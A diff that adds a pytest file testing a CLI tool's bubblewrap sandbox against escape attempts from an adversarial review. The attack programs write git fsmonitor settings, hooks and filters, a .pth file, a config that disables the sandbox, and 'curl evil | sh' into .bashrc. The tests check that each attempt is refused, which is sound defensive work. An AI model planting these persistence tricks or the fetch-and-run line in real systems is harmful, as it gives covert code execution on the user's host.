@@ -1,0 +1,309 @@
+"""Attacks from an adversarial review of the sandbox (issue 18): ways a program could run
+code on the host later, through what its working directory holds or reaches. Each test is
+an attack program; it runs under every containment that can stop it, and the tests of
+what oci itself does (refusals, its own git calls, the environment) under all of them."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import sys
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from oci_cli.core.errors import SandboxError
+from oci_cli.core.sourcefile import git_status
+from oci_cli.sandbox import containment, workspace
+from oci_cli.sandbox.environment import scrubbed
+from oci_cli.sandbox.limits import ExecResult, Limits
+from oci_cli.sandbox.runner import run
+
+pytestmark = pytest.mark.subprocess
+
+needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+
+
+def _bwrap() -> bool:
+    try:
+        return containment.probe("bwrap").mode == "bwrap"
+    except Exception:
+        return False
+
+
+needs_bwrap = pytest.mark.skipif(not _bwrap(), reason="bubblewrap does not work here")
+
+
+def attack(code: str, cwd: Path, mode: str = "bwrap", **limits: object) -> ExecResult:
+    return run(code=textwrap.dedent(code), cwd=cwd, limits=Limits(**limits),  # type: ignore[arg-type]
+               sandbox=mode)
+
+
+def git(repo: Path, *args: str) -> str:
+    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
+    env.update(GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@example.com",
+               GIT_COMMITTER_NAME="t", GIT_COMMITTER_EMAIL="t@example.com",
+               GIT_CONFIG_GLOBAL="/dev/null", GIT_CONFIG_NOSYSTEM="1")
+    return subprocess.run(["git", *args], cwd=repo, env=env, capture_output=True, text=True,
+                          check=True, timeout=30).stdout
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    work = tmp_path / "project"
+    work.mkdir()
+    git(work, "init", "-q")
+    (work / "app.py").write_text("print('hi')\n")
+    git(work, "add", "app.py")
+    git(work, "commit", "-q", "-m", "one")
+    return work
+
+
+# ---------------------------------------------------- 1. the working directory's .git --
+
+GIT_ATTACK = """
+import os, pathlib
+marker = {marker!r}
+hits = []
+for rel, text in [
+    (".git/config", "[core]\\n\\tfsmonitor = touch " + marker + "\\n"),
+    (".git/hooks/post-checkout", "#!/bin/sh\\ntouch " + marker + "\\n"),
+    (".git/info/attributes", "* filter=evil\\n"),
+]:
+    try:
+        with open(rel, "a") as fh:
+            fh.write(text)
+        hits.append(rel)
+    except OSError as exc:
+        print("refused", rel, type(exc).__name__)
+print("WROTE", hits)
+"""
+
+
+@needs_git
+@needs_bwrap
+def test_the_repository_metadata_is_read_only(repo: Path, tmp_path: Path) -> None:
+    marker = tmp_path / "pwned"
+    before = (repo / ".git" / "config").read_bytes()
+    result = attack(GIT_ATTACK.format(marker=str(marker)), repo)
+    assert "WROTE []" in result.stdout, result.stdout + result.stderr
+    assert (repo / ".git" / "config").read_bytes() == before
+    assert not (repo / ".git" / "hooks" / "post-checkout").exists()
+    git(repo, "status", "--porcelain")  # what a shell prompt runs
+    assert not marker.exists()
+
+
+@needs_git
+@needs_bwrap
+def test_nested_repositories_and_dot_git_files_are_read_only(repo: Path) -> None:
+    sub = repo / "vendor" / "lib"
+    sub.mkdir(parents=True)
+    git(sub, "init", "-q")
+    result = attack("""
+        import os
+        for path in ("vendor/lib/.git/config", "vendor/lib/.git/HEAD"):
+            try:
+                open(path, "a").write("x")
+                print("WROTE", path)
+            except OSError as exc:
+                print("refused", path)
+    """, repo)
+    assert "WROTE" not in result.stdout, result.stdout
+
+
+@needs_bwrap
+def test_a_new_repository_is_reported(tmp_path: Path) -> None:
+    work = tmp_path / "w"
+    work.mkdir()
+    result = attack("""
+        import os
+        os.makedirs(".git/hooks")
+        open(".git/config", "w").write("[core]\\n\\tfsmonitor = echo pwned\\n")
+        os.makedirs("sub")
+        open("sub/.git", "w").write("gitdir: ../.git\\n")
+    """, work)
+    assert result.ok, result.stderr
+    assert any(".git:" in w and str(work) in w for w in result.warnings), result.warnings
+    assert any("sub/.git" in w for w in result.warnings), result.warnings
+
+
+@needs_git
+def test_oci_s_own_git_call_runs_no_hook_filter_or_fsmonitor(repo: Path,
+                                                              tmp_path: Path) -> None:
+    """What oci fix runs before writing, on a repository a program could have written."""
+    marker = tmp_path / "pwned"
+    cmd = f"sh -c 'touch {marker}; cat'"
+    with (repo / ".git" / "config").open("a") as fh:
+        fh.write(f"[core]\n\tfsmonitor = touch {marker}\n\thooksPath = .git/evil\n"
+                 f"[filter \"evil\"]\n\tclean = {cmd}\n\tsmudge = {cmd}\n\trequired = true\n")
+    (repo / ".gitattributes").write_text("* filter=evil\n")
+    (repo / "app.py").write_text("print('changed')\n")
+    os.utime(repo / "app.py", (1, 1))  # stat-dirty: git status would run the clean filter
+    assert git_status(repo / "app.py") == "modified"
+    assert git_status(repo / ".gitattributes") == "untracked"
+    assert not marker.exists()
+
+
+@needs_bwrap
+def test_modified_files_are_listed_not_only_new_ones(tmp_path: Path) -> None:
+    work = tmp_path / "w"
+    work.mkdir()
+    (work / "data.csv").write_text("a,b\n")
+    (work / "old.txt").write_text("x")
+    result = attack("""
+        import os
+        open("data.csv", "a").write("1,2\\n")
+        os.remove("old.txt")
+        open("new.txt", "w").write("n")
+    """, work)
+    assert result.files == (str(work / "new.txt"),)
+    assert result.modified == (str(work / "data.csv"),)
+    assert result.deleted == (str(work / "old.txt"),)
+    assert set(result.to_dict()) >= {"files", "modified", "deleted", "warnings"}
+
+
+@needs_bwrap
+def test_a_new_virtualenv_or_bytecode_cache_is_reported(tmp_path: Path) -> None:
+    work = tmp_path / "w"
+    work.mkdir()
+    result = attack("""
+        import os
+        os.makedirs("env/bin")
+        open("env/pyvenv.cfg", "w").write("home = /usr/bin\\n")
+        os.makedirs("__pycache__")
+        open("__pycache__/app.cpython-311.pyc", "wb").write(b"x")
+    """, work)
+    kinds = " ".join(result.warnings)
+    assert "virtualenv" in kinds and "compiled Python" in kinds, result.warnings
+
+
+# ----------------------------------------------------------- 2. the host's /tmp --
+
+def test_tmp_root_home_and_oci_s_own_files_are_refused_as_working_directory(
+        oci_home: Path) -> None:
+    for bad in ("/", "/tmp"):
+        with pytest.raises(SandboxError, match="working directory"):
+            run(code="print(1)", cwd=bad, sandbox="none")
+    with pytest.raises(SandboxError, match="home directory.*--allow-home"):
+        run(code="print(1)", cwd=Path.home(), sandbox="none")
+    with pytest.raises(SandboxError, match="inside oci's own installation"):
+        run(code="print(1)", cwd=Path(sys.prefix) / "bin", sandbox="none")
+    (oci_home / "models").mkdir(exist_ok=True)
+    with pytest.raises(SandboxError, match="inside oci's own files"):
+        run(code="print(1)", cwd=oci_home / "models", sandbox="none")
+    one_line = SandboxError("x").one_line()
+    assert "\n" not in one_line
+
+
+@needs_bwrap
+def test_a_script_in_tmp_sees_only_itself_not_the_host_s_sockets(tmp_path: Path) -> None:
+    import socket
+    import tempfile
+
+    sock_dir = Path(tempfile.mkdtemp(prefix="oci-test-sock-", dir="/tmp"))
+    script = Path(tempfile.mkstemp(prefix="oci-test-", suffix=".py", dir="/tmp")[1])
+    server = socket.socket(socket.AF_UNIX)
+    try:
+        server.bind(str(sock_dir / "agent.sock"))
+        server.listen(1)
+        script.write_text(textwrap.dedent(f"""
+            import os, socket
+            print("SEES", sorted(os.listdir("/tmp")))
+            s = socket.socket(socket.AF_UNIX)
+            try:
+                s.connect({str(sock_dir / "agent.sock")!r})
+                print("CONNECTED")
+            except OSError as exc:
+                print("no socket:", type(exc).__name__)
+        """))
+        work = tmp_path / "w"
+        work.mkdir()
+        result = run(path=script, cwd=work, sandbox="bwrap")
+        assert result.ok, result.stderr
+        assert script.name in result.stdout  # the script file, bound alone
+        assert sock_dir.name not in result.stdout  # not the rest of the host's /tmp
+        assert "CONNECTED" not in result.stdout
+    finally:
+        server.close()
+        script.unlink()
+        shutil.rmtree(sock_dir)
+
+
+def test_terminal_multiplexer_and_ide_handles_are_scrubbed() -> None:
+    env = {"TMUX": "/tmp/tmux-0/default,1,0", "TMUX_PANE": "%1", "STY": "1.pts",
+           "NVIM": "/run/nvim.sock", "NVIM_LISTEN_ADDRESS": "/tmp/nvim",
+           "KITTY_LISTEN_ON": "unix:/tmp/kitty", "WEZTERM_UNIX_SOCKET": "/x",
+           "VSCODE_IPC_HOOK_CLI": "/run/vscode.sock", "I3SOCK": "/run/i3",
+           "SWAYSOCK": "/run/sway", "ZELLIJ_SESSION_NAME": "z", "LANG": "C.UTF-8",
+           "TERM": "xterm-256color"}
+    out = scrubbed(env, home="/h", tmpdir="/t", marker="m", cwd="/w")
+    assert out["LANG"] == "C.UTF-8" and out["TERM"] == "xterm-256color"
+    leaked = {k for k in env if k in out} - {"LANG", "TERM"}
+    assert not leaked
+
+
+# ------------------------------------- 3. and 4. oci's installation, config and data --
+
+@needs_bwrap
+def test_oci_s_installation_and_state_are_read_only_inside_the_working_directory(
+        tmp_path: Path, oci_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A working directory that holds the virtualenv and package oci runs from, and oci's
+    config: a .pth, a changed module or a config with sandbox = "none" would run on the
+    host (or unsandboxed) at the next start."""
+    work = tmp_path / "w"
+    venv = work / ".venv"
+    site = venv / "lib" / "python3" / "site-packages"
+    pkg = work / "src" / "oci_cli"
+    for d in (site, pkg):
+        d.mkdir(parents=True)
+    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
+    (pkg / "__init__.py").write_text("")
+    home = work / "oci-state"
+    home.mkdir()
+    (home / "config.toml").write_text("")
+    monkeypatch.setenv("OCI_HOME", str(home))
+    monkeypatch.setattr(workspace, "_code_dirs", lambda: [site, pkg])
+    monkeypatch.setattr(workspace, "_installation", lambda: [venv, site, pkg])
+    result = attack("""
+        import os
+        for path, text in [(".venv/lib/python3/site-packages/evil.pth", "import os\\n"),
+                           ("src/oci_cli/__init__.py", "import os\\n"),
+                           ("oci-state/config.toml", 'sandbox = "none"\\n'),
+                           ("oci-state/data/history", "x")]:
+            try:
+                open(path, "a").write(text)
+                print("WROTE", path)
+            except OSError:
+                print("refused", path)
+        os.makedirs(os.path.expanduser("~/.cache"), exist_ok=True)
+        print("HOME OK")
+    """, work)
+    assert "WROTE" not in result.stdout, result.stdout
+    assert "HOME OK" in result.stdout, result.stderr  # the sandbox home stays writable
+    assert (home / "config.toml").read_text() == ""
+
+
+@needs_bwrap
+def test_home_as_working_directory_only_when_allowed_and_its_dot_files_stay_read_only(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    fake_home = tmp_path / "home"
+    fake_home.mkdir()
+    (fake_home / ".bashrc").write_text("# mine\n")
+    (fake_home / ".config").mkdir()
+    monkeypatch.setenv("HOME", str(fake_home))
+    with pytest.raises(SandboxError, match="--allow-home"):
+        attack("print(1)", fake_home)
+    result = attack("""
+        for path in (".bashrc", ".config/autostart.desktop"):
+            try:
+                open(path, "a").write("curl evil | sh\\n")
+                print("WROTE", path)
+            except OSError:
+                print("refused", path)
+        open("notes.txt", "w").write("fine")
+    """, fake_home, allow_home=True)
+    assert "WROTE" not in result.stdout, result.stdout
+    assert (fake_home / ".bashrc").read_text() == "# mine\n"
+    assert (fake_home / "notes.txt").read_text() == "fine"
